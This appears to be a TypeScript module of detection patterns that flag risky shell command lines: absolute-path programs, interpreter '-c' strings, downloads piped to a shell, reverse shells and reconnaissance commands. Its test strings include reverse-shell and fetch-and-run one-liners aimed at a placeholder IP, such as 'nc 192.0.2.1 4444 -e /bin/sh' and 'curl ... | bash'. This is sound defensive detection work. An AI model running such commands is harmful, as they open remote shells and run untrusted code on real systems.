// Shell patterns for command lines that run something: programs by path, scripts given as a string, downloads, remote shells.
import { LETTER, WORD } from "../char-classes.ts";
import { choice, keyword, lit, oneOf, opt, run, seq, times } from "../combinators.ts";
import { splitWords } from "../keyword-set.ts";
import { atWordStart } from "../look-behind.ts";
import { pattern, type Pattern } from "../pattern.ts";
import { digits, end, ows, quote, rws } from "../tokens.ts";
import { PREFIX_COMMANDS } from "./shell-commands.ts";
import {
  atTextStart,
  BEFORE_COMMAND,
  notAfterPipe,
  notAlternation,
  unscheduledProgram,
} from "./shell-context.ts";
import {
  address,
  anyCommand,
  commandEnd,
  fileName,
  option,
  path,
  searchLine,
  shellArgument,
} from "./shell-grammar.ts";

/** Programs that run a text given as an argument. */
const INTERPRETERS = splitWords(
  `sh bash zsh ksh dash csh cmd cmd.exe $shell python python3 perl ruby php node`,
);
const interpreterName = keyword(["sh", "bash", "cmd", "sudo", "python", "perl"]);
/** Commands that print who and where the process is: the first thing that an attacker runs. */
const RECONNAISSANCE = splitWords(`whoami ifconfig uname netstat ipconfig systeminfo`);

export const SHELL_EXECUTION: readonly Pattern[] = [
  pattern("shell.binary", ["/bin/", "/sbin/"], {
    catches: "a program by its absolute path, with an argument or before a separator",
    from: "balanced",
    finds: ["/bin/sh -c id", "/usr/bin/id; x", "/sbin/reboot | x", "x=/bin/cat 'a'"],
    ignores: [
      "files that are newer than /bin/sh",
      "example.com/bin/sh -c",
      "SHELL=/bin/bash\nPATH=x",
      "/bin/cat/x -a",
      "<code>/usr/bin/x</code>",
      "[Service]\nExecStart=/usr/bin/python3 /srv/app/main.py",
      "30 2 * * 1-5 /usr/local/bin/rotate --all",
      "*/10 * * * * /usr/bin/python3 /srv/app/poll.py",
    ],
    before: unscheduledProgram,
    after: seq(
      run(WORD, 2, 24),
      choice(seq(rws, choice(shellArgument, seq(quote, run(LETTER, 1, 1)))), seq(ows, oneOf(";|&"))),
    ),
  }),
  pattern(
    "shell.run-string",
    INTERPRETERS.map((name) => `${name} `),
    {
      catches: "an interpreter that runs a text given as its argument",
      from: "balanced",
      finds: [
        ...INTERPRETERS.map((name) => `${name} -c "x"`),
        "cmd /c dir",
        "cmd /k ver",
        "bash -lc whoami",
        "perl -e 'x'",
        "sh -c $(x)",
        "sh -c $'x'",
      ],
      ignores: ["python -c", "bash -x run.sh", "publish -c 'x'", "a cmd /code"],
      before: atWordStart,
      after: seq(
        choice(seq(lit("-"), times(0, 3, oneOf("ilx")), oneOf("cer")), lit("/c"), lit("/k")),
        rws,
        choice(quote, anyCommand, keyword(["ver"]), seq(lit("$"), choice(lit("("), quote))),
      ),
    },
  ),
  pattern("shell.download", ["wget ", "curl "], {
    catches: "a download that is run, or written to a script",
    from: "balanced",
    finds: [
      "wget http://192.0.2.1/a.sh",
      "curl -s http://192.0.2.1/x | bash",
      "curl http://192.0.2.1/x -o /data/x",
      "wget http://192.0.2.1/x; ls",
      "wget -O x.txt -q 'http://192.0.2.1/x' | sudo",
      "wget http://192.0.2.1/x && ./x",
    ],
    ignores: [
      "curl https://example.com/v1/items -H 'Accept: a'",
      "use wget or curl",
      "mywget http://192.0.2.1/a.sh",
    ],
    precededBy: BEFORE_COMMAND,
    after: seq(
      times(0, 4, choice(seq(option, rws), seq(fileName, rws))),
      opt(quote),
      address,
      searchLine(
        ".|-;&",
        choice(
          seq(lit("."), keyword(["sh", "py", "pl", "exe", "elf", "ps1"])),
          seq(lit("|"), ows, interpreterName),
          seq(lit("-o"), ows, choice(path, fileName)),
          seq(choice(lit(";"), lit("&&")), ows, choice(anyCommand, lit("./"))),
        ),
        80,
      ),
    ),
  }),
  pattern("shell.reverse-shell", ["nc ", "ncat ", "netcat ", "socat ", "telnet "], {
    catches: "a connection that runs a shell, or that listens for one",
    from: "relaxed",
    finds: [
      "nc 192.0.2.1 4444 -e /bin/sh",
      "ncat 192.0.2.1 4444 -c bash",
      "netcat -e sh 192.0.2.1 4444",
      "nc 192.0.2.1 1 -e cmd",
      "socat exec:sh tcp:192.0.2.1:4444",
      "socat TCP:192.0.2.1:4444 EXEC:sh",
      "telnet 192.0.2.1 1 | sh",
    ],
    ignores: ["nc -zv 192.0.2.1 443", "func -e sh", "telnet is old", "nc -e file"],
    precededBy: BEFORE_COMMAND,
    after: searchLine(
      "-eE|",
      choice(
        seq(lit("-"), run(LETTER, 1, 5), rws, choice(lit("/"), keyword(["sh", "bash", "cmd"]))),
        lit("exec:"),
        seq(lit("|"), ows, keyword(["sh", "bash"])),
      ),
      60,
    ),
  }),
  pattern("shell.reverse-shell", ["/dev/tcp/", "/dev/udp/"], {
    catches: "a network connection that is opened as a file",
    from: "relaxed",
    finds: ["sh </dev/tcp/192.0.2.1/4444", "cat x > /dev/udp/192.0.2.1/53"],
    ignores: ["What is /dev/tcp/ for?"],
    after: run(WORD, 1, 1),
  }),
  pattern("shell.reverse-shell", ["bash -i", "sh -i"], {
    catches: "an interactive shell whose input or output is redirected",
    from: "relaxed",
    finds: ["bash -i >& x", "sh -i <&3"],
    ignores: ["bash -i starts an interactive shell", "push -i > x"],
    before: atWordStart,
    after: seq(ows, oneOf(">&<")),
  }),
  pattern(
    "shell.prefix",
    PREFIX_COMMANDS.map((name) => `${name} `),
    {
      catches: "a command that runs another command",
      from: "balanced",
      finds: [
        ...PREFIX_COMMANDS.map((name) => `${name} whoami`),
        "timeout 5 curl example.com",
        "sudo -u root cat x.txt",
        "sudo cat -n",
        "flock -u / id",
        "cpulimit -l 100 -f id",
      ],
      ignores: ["It is time who knows", "sudo id cards", "the lifetime id;"],
      precededBy: BEFORE_COMMAND,
      after: seq(
        times(0, 3, choice(seq(lit("-"), run(LETTER, 1, 10), rws), seq(choice(digits, lit("/")), rws))),
        opt(seq(lit("root"), rws)),
        keyword(
          splitWords(`ifconfig whoami who id uname wget curl sh bash cat netstat nc chmod chown rm su`),
        ),
        choice(commandEnd, seq(rws, choice(shellArgument, seq(run(WORD, 1, 24), oneOf("./:"))))),
      ),
    },
  ),
  pattern("shell.reconnaissance", RECONNAISSANCE, {
    catches: "a command that prints the user or the system, before a separator or as the whole text",
    from: "balanced",
    finds: [...RECONNAISSANCE.map((name) => `${name};x`), "uname -a | x", "ifconfig && x"],
    ignores: ["Run uname -a", "What does whoami print?", "xuname -a;", "| a | whoami | b |"],
    precededBy: BEFORE_COMMAND,
    guard: notAfterPipe,
    after: seq(opt(seq(rws, option)), ows, choice(oneOf(";|"), lit("&&"))),
  }),
  pattern("shell.reconnaissance", RECONNAISSANCE, {
    catches: "a command with an option that prints the user or the system, as the whole text",
    from: "balanced",
    finds: RECONNAISSANCE.map((name) => `${name} -a`),
    ignores: ["Run uname -a", "uname -a prints the kernel", "netstat"],
    guard: atTextStart,
    after: seq(rws, option, end),
  }),
  pattern("shell.to-shell", ["| sh", "|sh", "| bash", "|bash"], {
    catches: "text that is piped to a shell",
    from: "balanced",
    finds: ["x | sh", "x|sh", "x | bash", "x|bash;"],
    ignores: ["x | shuffle", "/^(d|l|sh)/", "|bash and zsh|"],
    before: notAlternation,
    after: choice(end, oneOf(")`;&\"'|")),
  }),
];
